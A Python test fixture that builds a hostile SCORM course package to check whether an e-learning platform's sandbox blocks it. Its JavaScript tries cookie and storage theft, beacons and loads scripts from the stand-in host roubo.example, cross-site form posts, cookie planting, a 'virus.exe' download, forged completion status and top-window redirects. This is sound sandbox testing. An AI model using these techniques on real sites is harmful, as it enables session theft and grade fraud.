"""A package that attacks the site it runs on (quality.md, B6), and writes down what it reached."""

from .making import FIND, manifest_12

PAGE = """<!doctype html><html lang="pt-BR"><head><meta charset="utf-8"><title>Aula</title></head><body>
<h1>Aula</h1><pre id="results">{}</pre><p id="over"></p><script src="hostil.js"></script></body></html>
"""
SCRIPT = (
    FIND
    + """
const results = {};
const params = new URLSearchParams(location.search);
const above = [...(location.ancestorOrigins || [])];
const site = params.get("site") || above[above.length - 1] || "";
const write = (name, told) => {
  results[name] = told;
  document.getElementById("results").textContent = JSON.stringify(results);
};
const attempt = async (name, act) => {
  try {
    write(name, (await act()) ? "reached" : "blocked");
  } catch (error) {
    write(name, "blocked");
  }
};
const late = () => new Promise((_, no) => setTimeout(() => no(new Error("late")), 3000));
const soon = (promise) => Promise.race([promise, late()]);
async function run() {
  await attempt("cookies", () => document.cookie.includes("segredo"));
  await attempt("parent", () => top.document.body.innerHTML.length > 0);
  await attempt("opener", () => Boolean(top.opener && top.opener.document));
  await attempt("storage", () => (localStorage.getItem("espiao") || "").includes("segredo"));
  await attempt("api", async () => (await soon(fetch(`${site}/cursos/`, { credentials: "include" }))).ok);
  await attempt("opaque", async () => {
    const answer = await soon(fetch(`${site}/roubo`, { mode: "no-cors", credentials: "include" }));
    return Boolean(answer);
  });
  await attempt("beacon", () => navigator.sendBeacon("https://roubo.example/") && false);
  await attempt("image", () => soon(new Promise((yes, no) => {
    const image = new Image();
    image.onload = () => yes(true);
    image.onerror = () => yes(false);
    image.src = "https://roubo.example/x.png";
  })));
  await attempt("script", () => soon(new Promise((yes) => {
    const script = document.createElement("script");
    script.onload = () => yes(true);
    script.onerror = () => yes(false);
    script.src = "https://roubo.example/x.js";
    document.body.append(script);
  })));
  await attempt("popup", () => Boolean(window.open("about:blank", "_blank")));
  await attempt("worker", async () => Boolean(await soon(navigator.serviceWorker.register("sw.js"))));
  await attempt("form", () => soon(new Promise((yes) => {
    const frame = document.createElement("iframe");
    frame.name = "alvo";
    document.body.append(frame);
    const form = document.createElement("form");
    form.action = `${site}/conta/sair/`;
    form.method = "post";
    form.target = "alvo";
    document.body.append(form);
    document.addEventListener("securitypolicyviolation", () => yes(false), { once: true });
    form.submit();
    setTimeout(() => yes(true), 1500);
  })));
  await attempt("plant", () => {
    document.cookie = "plantado=1; domain=localhost; path=/";
    document.cookie = "plantado=1; domain=127.0.0.1; path=/";
    return false;
  });
  const link = document.createElement("a");
  link.href = "data:application/octet-stream,x";
  link.download = "virus.exe";
  link.click();
  for (const message of [null, {}, { trama: "package", version: 1, type: "commit", item: "other", data: {} },
    { trama: "package", version: 1, type: "commit", item: "i1", data: { suspend_data: "x".repeat(3e5) } }]) {
    top.postMessage(message, "*");
    const order = { trama: "page", type: "begin", kind: "scorm12", item: { id: "x", href: "//roubo.example/" } };
    if (window.parent !== top) window.parent.postMessage(order, "*");
  }
  const api = find("API");
  if (api && api !== null && api.LMSInitialize) {
    api.LMSInitialize("");
    api.LMSSetValue("cmi.core.lesson_status", "completed");
    api.LMSCommit("");
    try { top.location = "https://roubo.example/"; } catch (error) { /* blocked */ }
  }
  document.getElementById("over").textContent = "over";
}
run();
"""
)


def package() -> dict[str, str | bytes]:
    """The members of the hostile package."""
    members = {"imsmanifest.xml": manifest_12(), "aula/index.html": PAGE, "aula/hostil.js": SCRIPT, "aula/sw.js": ""}
    return {name: text.replace(">80<", ">0<") for name, text in members.items()}
